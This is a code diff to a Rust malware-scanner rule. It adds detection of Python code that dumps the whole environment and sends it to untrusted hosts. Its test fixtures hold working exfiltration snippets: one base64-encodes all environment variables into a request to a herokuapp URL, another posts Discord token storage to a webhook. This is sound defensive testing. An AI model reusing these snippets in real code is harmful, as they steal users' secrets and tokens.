@@ -167,6 +167,14 @@ impl Rule for Exfiltration {
                     endpoint.describe()
                 );
                 (sev, *first_sink, message)
+            } else if let Some((sink, host)) = env_to_untrusted(code, &sinks, &identity) {
+                let message = format!(
+                    "collects the whole environment and sends it with {}() to {host} {}",
+                    sink.name,
+                    sink.stage.describe()
+                );
+                let sev = if aux { Severity::Low } else { Severity::High };
+                (sev, sink, message)
             } else if credentials {
                 let message = format!(
                     "reads {} and uses the network ({}())",
@@ -180,6 +188,35 @@ impl Rule for Exfiltration {
             out.push(unit.finding(Self::META.id, severity, sink.line, message));
         }
     }
+}
+
+/// A send in the same function as a dump of `os.environ`, to a host no
+/// project service lives on (free hosting, throw-away domains…).
+fn env_to_untrusted<'c>(
+    code: &'c crate::inspect::python::PyFile,
+    sinks: &[&'c Call],
+    identity: &[(&str, u32)],
+) -> Option<(&'c Call, &'static str)> {
+    sinks.iter().find_map(|s| {
+        let dump = vocab::dumps_environ(s)
+            || identity.iter().any(|(n, scope)| {
+                *scope == s.scope && matches!(*n, "os.environ.items" | "os.environ.values" | "os.environ")
+            });
+        if !dump {
+            return None;
+        }
+        s.arg_strs
+            .iter()
+            .map(String::as_str)
+            .chain(
+                code.strings
+                    .iter()
+                    .filter(|l| l.scope == s.scope && l.value.contains("://"))
+                    .map(|l| l.value.as_str()),
+            )
+            .find_map(vocab::untrusted_host)
+            .map(|h| (*s, h))
+    })
 }
 
 #[cfg(test)]
@@ -209,6 +246,16 @@ mod tests {
             &[("pkg/core.py", "import requests, os\ndef go():\n    p = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n    requests.post(HOOK, data=open(p).read())\n")],
         );
         assert_eq!((f.len(), f[0].severity), (1, Severity::Critical));
+    }
+
+    #[test]
+    fn fires_on_environment_sent_to_free_hosting() {
+        let f = check(
+            &Exfiltration,
+            Kind::Wheel,
+            &[("pkg/ctx.py", "import requests, base64\nfrom os import environ\ndef send():\n    s = ''\n    for _, v in environ.items():\n        s += v\n    requests.get('https://a.herokuapp.com/x/' + base64.b64encode(s.encode()).decode())\n")],
+        );
+        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
     }
 
     #[test]
